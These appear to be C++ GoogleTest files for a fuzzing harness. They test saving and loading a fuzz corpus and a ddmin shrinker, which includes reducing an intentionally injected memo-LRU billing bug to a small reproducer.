  EXPECT_EQ(back.body, c.body);
}

TEST(FuzzCorpus, SaveAndLoadDirectory) {
  const std::string dir =
      ::testing::TempDir() + "/fuzz_corpus_roundtrip";
  const FuzzCase a = generate(31);
  const FuzzCase b = generate(32);
  ASSERT_NE(save_case(dir, "b_second", b), "");
  ASSERT_NE(save_case(dir, "a_first", a), "");
  const auto entries = load_corpus(dir);
  ASSERT_EQ(entries.size(), 2u);
  // Sorted by filename, not write order: replay order is deterministic.
  EXPECT_EQ(entries[0].name, "a_first.sm");
  EXPECT_EQ(entries[0].c.body, a.body);
  EXPECT_EQ(entries[1].c.body, b.body);
}

}  // namespace
}  // namespace sm::fuzz
