// The ddmin shrinker: minimality on a synthetic predicate, and the PR's
// acceptance bar — an injected billing bug shrunk to a tiny reproducer.
#include <gtest/gtest.h>

#include "asm/assembler.h"
#include "fuzz/generator.h"
#include "fuzz/oracle.h"
#include "fuzz/shrinker.h"
#include "guest/guestlib.h"

namespace sm::fuzz {
namespace {

bool assembles(const FuzzCase& c) {
  try {
    assembler::assemble(guest::program(c.body));
    return true;
  } catch (const assembler::AsmError&) {
    return false;
  }
}

TEST(FuzzShrinker, ReducesToThePredicateCore) {
  // Synthetic predicate: "still contains a SYS_WRITE action". The shrinker
  // should strip every other action while keeping the body assemblable.
  FuzzCase c;
  for (u64 seed = 1;; ++seed) {
    c = generate(seed);
    if (c.body.find("SYS_WRITE") != std::string::npos &&
        split_actions(c.body).actions.size() >= 8)
      break;
    ASSERT_LT(seed, 50u);
  }
  const auto pred = [](const FuzzCase& cand) -> std::string {
    if (!assembles(cand)) return "";
    return cand.body.find("SYS_WRITE") != std::string::npos ? "has write"
                                                            : "";
  };
  const ShrinkResult sr = shrink(c, pred);
  EXPECT_FALSE(sr.divergence.empty());
  EXPECT_TRUE(assembles(sr.reduced));
  EXPECT_LT(sr.reduced.body.size(), c.body.size());
  // Every action that survived must be needed: at most the one write
  // action remains (line-level phase may even have gutted its neighbours).
  EXPECT_LE(split_actions(sr.reduced.body).actions.size(), 1u);
  EXPECT_GT(sr.predicate_calls, 0u);
}

TEST(FuzzShrinker, NonDivergentInputIsReturnedUnchanged) {
  const FuzzCase c = generate(3);
  const ShrinkResult sr =
      shrink(c, [](const FuzzCase&) -> std::string { return ""; });
  EXPECT_EQ(sr.reduced.body, c.body);
  EXPECT_TRUE(sr.divergence.empty());
  EXPECT_EQ(sr.predicate_calls, 1u);
}

TEST(FuzzShrinker, ShrinkIsDeterministic) {
  FuzzCase c = generate(9);
  const auto pred = [](const FuzzCase& cand) -> std::string {
    if (!assembles(cand)) return "";
    return cand.body.find("fz_buf") != std::string::npos ? "uses buf" : "";
  };
  const ShrinkResult a = shrink(c, pred);
  const ShrinkResult b = shrink(c, pred);
  EXPECT_EQ(a.reduced.body, b.reduced.body);
  EXPECT_EQ(a.predicate_calls, b.predicate_calls);
}

TEST(FuzzShrinker, InjectedLruBugShrinksToTinyReproducer) {
  // The acceptance bar from the issue: plant the memo-LRU billing bug,
  // find a divergent program, and shrink it to a reproducer of at most 20
  // static instructions — small enough to eyeball the eviction dance.
  OracleOptions opts;
  opts.inject_lru_bug = true;
  opts.billing_only = true;  // 6 runs per predicate call instead of 15

  FuzzCase bad;
  std::string first_divergence;
  for (u64 seed = 1;; ++seed) {
    const FuzzCase c = generate(seed);
    const OracleVerdict v = check_case(c, opts);
    if (!v.ok) {
      bad = c;
      first_divergence = v.divergence;
      break;
    }
    ASSERT_LT(seed, 40u) << "no divergent seed found";
  }

  const ShrinkResult sr =
      shrink(bad, [&opts](const FuzzCase& cand) -> std::string {
        if (!assembles(cand)) return "";
        const OracleVerdict v = check_case(cand, opts);
        return v.ok ? "" : v.divergence;
      });

  EXPECT_FALSE(sr.divergence.empty());
  EXPECT_TRUE(assembles(sr.reduced));
  EXPECT_LE(count_instructions(sr.reduced.body), 20u)
      << "reproducer still too big:\n"
      << sr.reduced.body;
  // The reproducer must still be about the billing split between memo-on
  // and memo-off runs.
  EXPECT_NE(sr.divergence.find("no-memo"), std::string::npos)
      << sr.divergence;
}

}  // namespace
}  // namespace sm::fuzz
